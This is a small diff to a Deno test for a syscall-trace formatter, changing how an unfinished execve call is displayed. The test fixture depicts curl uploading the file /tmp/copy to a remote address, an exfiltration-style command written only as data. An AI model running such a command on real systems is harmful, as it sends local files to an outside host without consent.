@@ -43,7 +43,7 @@ Deno.test("call shows everything when there is room", () => {
   assert.equal(
     call(STARTED, PAPER),
     `execve("/usr/bin/curl", argv=["curl", "-s", "--data-binary", "@/tmp/copy", ` +
-      `"http://198.51.100.7:8080/upload"], env=["HOME=/root", "PATH=/usr/bin:/bin"]) …`,
+      `"http://198.51.100.7:8080/upload"], env=["HOME=/root", "PATH=/usr/bin:/bin"]) = ?`,
   );
 });
 
